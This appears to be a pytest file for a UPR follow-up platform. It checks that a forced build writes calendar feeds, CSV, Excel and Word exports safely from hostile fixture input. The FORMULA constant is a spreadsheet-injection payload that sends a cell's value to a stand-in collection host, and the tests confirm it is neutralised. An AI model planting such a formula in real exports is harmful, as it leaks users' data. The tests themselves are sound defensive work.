"""A forced build of content made to break the writers (issue 13, classes 4 and 5).

``upr build --force`` publishes content that ``upr check`` refuses: the writers must
stand on their own. The fixture repository is written here (the site's code — mkdocs.yml,
overrides/, docs/javascripts, docs/stylesheets — is copied; no content of the repository
is used): folded and literal YAML titles that end in a line break (a group, its briefing,
a tool, an assessment's organisation), assessments whose text is a spreadsheet formula,
a phone number and a handle, and hand-written pages carrying characters that are not
text. The site is built once for the English tree.
"""
from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import docx
import icalendar
import openpyxl
import pytest
from conftest import OUTPUT, ROOT, TODAY

FIXTURE = ROOT / "tests" / "fixtures" / "followup" / "states" / "recommendations" / "svn.csv"
FORMULA = '=HYPERLINK("https://example.org/collect?d="&A1,"Open the evidence folder")'

STATE = """---
iso3: {iso3}
iso2: {iso2}
m49: '{m49}'
un_status: member
regional_group: {group}
names:
  en: {{short: {name}, formal: {name}}}
  fr: {{short: {name}, formal: {name}}}
  es: {{short: {name}, formal: {name}}}
---
{name} is a UN Member State.
"""
EEG, AG, APG, WEOG = ("Eastern European Group", "African Group", "Asia-Pacific Group",
                      "Western European and Others Group")
STATES = [("SVN", "SI", "705", "Slovenia", EEG), ("TGO", "TG", "768", "Togo", AG), ("NOR", "NO", "578", "Norway", WEOG),
          ("IND", "IN", "356", "India", APG), ("HUN", "HU", "348", "Hungary", EEG), ("FRA", "FR", "250", "France", WEOG),
          ("LTU", "LT", "440", "Lithuania", EEG), ("EGY", "EG", "818", "Egypt", AG), ("SEN", "SN", "686", "Senegal", AG),
          ("MDV", "MV", "462", "Maldives", APG), ("PRT", "PT", "620", "Portugal", WEOG), ("MWI", "MW", "454", "Malawi", AG),
          ("MKD", "MK", "807", "North Macedonia", EEG)]
SESSIONS = """updated: '2026-11-30'
sessions:
  - session: 48
    cycle: 4
    year: 2025
    start: {date: '2025-01-20', precision: day}
    end: {date: '2025-01-31', precision: day}
    states: [SVN]
  - session: 54
    cycle: 4
    year: 2027
    start: {date: '2027-01-25', precision: approximate}
    states: [TGO]
"""
GROUP = """---
state: TGO
session: 54
cycle: 4
status: drafting
title: >
  Togo coalition, folded
contacts:
  - organisation: Fixture NGO Lomé
    role: coordinator
    channel: https://example.org/contact
members:
  - organisation: Fixture NGO Lomé
languages: [fr]
---

The group's plan.
"""
BRIEFING = """---
title: |
  Briefing on Togo
  for the missions
date: "2026-12-15"
start: "14:00"
end: "14:45"
place: >
  Geneva,
  room XX
speakers:
  - organisation: Fixture NGO Lomé
---

Statements, then questions.
"""
TOOL = """---
title: >
  A checklist with a folded title
summary: A checklist that a country group follows before its State's review.
kind: checklist
stages: [preparation]
topics: [upr-process]
languages: [en]
organisation: Fixture NGO
year: 2026
licence: CC BY 4.0
---

## How to use it

Tick each step.
"""
ASSESSMENT = """---
recommendations:
  - {rec}
status: {status}
date: "{date}"
assessed_by: {by}
sources:
  - A/HRC/59/15/Add.1
---

{body}
"""
ASSESSMENTS = [  # (file, recommendation, status, organisation, text)
    ("2026-01-05-formula.md", "SVN-48-140.7", "not implemented", "'@SloveniaUPRCoalition'", FORMULA),
    ("2026-01-06-dash.md", "SVN-48-140.10", "partially implemented", '"+386 1 234 5678"',
     "- Two shelters opened; - no budget line yet"),
    ("2026-01-07-folded.md", "SVN-48-140.1", "implemented", ">\n  Coalition with a\n  folded name",
     "+ Law adopted (Act No. 7 of 2024)"),
]


def _write(path: Path, text: str | bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8", newline="")


def hostile_repo(root: Path) -> Path:
    root.mkdir(parents=True)
    shutil.copy2(ROOT / "mkdocs.yml", root / "mkdocs.yml")
    shutil.copytree(ROOT / "overrides", root / "overrides")
    for code in ("javascripts", "stylesheets"):
        shutil.copytree(ROOT / "docs" / code, root / "docs" / code)
    for iso3, iso2, m49, name, group in STATES:  # the States under Review and every recommending State
        _write(root / "states" / f"{iso3.lower()}.md", STATE.format(iso3=iso3, iso2=iso2, m49=m49, name=name,
                                                                    group=group))
    _write(root / "states" / "sessions.yml", SESSIONS)
    recs = FIXTURE.read_text(encoding="utf-8")
    _write(root / "states" / "recommendations" / "svn.csv", recs)
    for name, rec, status, by, body in ASSESSMENTS:
        _write(root / "states" / "followup" / "svn" / name,
               ASSESSMENT.format(rec=rec, status=status, date=name[:10], by=by, body=body))
    _write(root / "groups" / "tgo-54" / "index.md", GROUP)
    _write(root / "groups" / "tgo-54" / "briefings" / "2026-12-15-missions.md", BRIEFING)
    _write(root / "tools_library" / "folded-checklist.md", TOOL)
    _write(root / "docs" / "index.md", "# UPR Platform\n\nA fixture site.\n")
    _write(root / "docs" / "about.md", "# About\n\nText\x0bwith a vertical tab, a form feed\x0c, an escape "
                                       "\x1b[31m and a line separator\u2028here.\n")
    _write(root / "docs" / "contribute.md", "# Contribute\n\nSee CONTRIBUTING.\n")
    _write(root / "docs" / "news" / "index.md", "# News\n\nNews of the fixture.\n")
    _write(root / "docs" / "news" / "posts" / "2026-11-30-opens.md",
           "---\ndate: 2026-11-30\ncategories:\n  - Announcements\n---\n\n# The fixture opens\n\nText.\n")
    return root


@pytest.fixture(scope="module")
def hostile_build():
    base = OUTPUT / f"hostile-input-{os.getpid()}"
    if base.exists():
        shutil.rmtree(base)
    root = hostile_repo(base / "repo")
    env = dict(os.environ, PYTHONPATH=str(ROOT / "scripts"), UPR_ROOT=str(root), NO_MKDOCS_2_WARNING="1")
    result = subprocess.run([sys.executable, "-m", "upr", "build", "--force", "--lang", "en", "--today",
                             TODAY.isoformat(), "--out", str(base / "out")], cwd=root, env=env,
                            capture_output=True, text=True, timeout=1800)
    yield root, base / "out" / "site", result
    shutil.rmtree(base, ignore_errors=True)


def test_the_forced_build_finishes(hostile_build):
    _, site, result = hostile_build
    assert result.returncode == 0, result.stderr[-4000:]
    assert (site / "groups" / "tgo-54.ics").is_file()


def test_the_group_feed_has_its_folded_title_on_one_line(hostile_build):
    _, site, _ = hostile_build
    raw = (site / "groups" / "tgo-54.ics").read_bytes()
    cal = icalendar.Calendar.from_ical(raw)
    assert str(cal["X-WR-CALNAME"]) == "UPR country group: Togo coalition, folded"
    briefing = next(e for e in cal.walk("VEVENT") if "missions" in str(e["SUMMARY"]))
    assert str(briefing["SUMMARY"]) == "Briefing on Togo for the missions"


def test_every_feed_is_crlf_lines_without_control_characters(hostile_build):
    _, site, _ = hostile_build
    feeds = sorted(site.rglob("*.ics"))
    assert len(feeds) >= 3
    for feed in feeds:
        raw = feed.read_bytes()
        assert re.search(rb"\r(?!\n)|(?<!\r)\n|[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]|\xe2\x80[\xa8\xa9]", raw) is None, feed
        icalendar.Calendar.from_ical(raw)


def test_the_excel_export_holds_the_formula_as_text(hostile_build):
    _, site, _ = hostile_build
    ws = openpyxl.load_workbook(site / "exports" / "recommendations" / "svn.xlsx")["SVN"]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells}
    assert {FORMULA, "- Two shelters opened; - no budget line yet", "+ Law adopted (Act No. 7 of 2024)",
            "+386 1 234 5678", "@SloveniaUPRCoalition", "Coalition with a folded name\n"} <= texts


def test_the_csv_export_prefixes_what_a_spreadsheet_would_run(hostile_build):
    _, site, _ = hostile_build
    raw = (site / "exports" / "recommendations" / "svn.csv").read_bytes()
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assessed = {r["id"]: (r["assessed_by"], r["assessment_narrative"]) for r in rows if r["assessment_status"]}
    assert assessed == {
        "SVN-48-140.7": ("'@SloveniaUPRCoalition", "'" + FORMULA),
        "SVN-48-140.10": ("'+386 1 234 5678", "'- Two shelters opened; - no budget line yet"),
        "SVN-48-140.1": ("Coalition with a folded name\n", "'+ Law adopted (Act No. 7 of 2024)"),
    }


def test_the_word_matrix_opens(hostile_build):
    _, site, _ = hostile_build
    document = docx.Document(str(site / "exports" / "recommendations" / "svn-cycle-4-matrix.docx"))
    text = "\n".join(c.text for row in document.tables[0].rows for c in row.cells)
    assert FORMULA in text


def test_no_written_file_holds_a_character_that_is_not_text(hostile_build):
    """ICS, CSV, JSON, XLSX and DOCX (every XML part): the writers of the platform.
    The hand-written page with control characters is copied by MkDocs as HTML (out of scope here)."""
    _, site, _ = hostile_build
    bad = re.compile(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]|\xe2\x80[\xa8\xa9\xad\xae]|\xc2[\x80-\x9f]")
    checked = 0
    for path in sorted(site.rglob("*")):
        if path.suffix in (".ics", ".csv", ".json"):
            assert bad.search(path.read_bytes()) is None, path
            checked += 1
        elif path.suffix in (".xlsx", ".docx"):
            with zipfile.ZipFile(path) as zf:
                for name in zf.namelist():
                    if name.endswith((".xml", ".rels")):  # the text parts (a thumbnail is an image)
                        assert bad.search(zf.read(name)) is None, (path, name)
            checked += 1
    assert checked >= 8
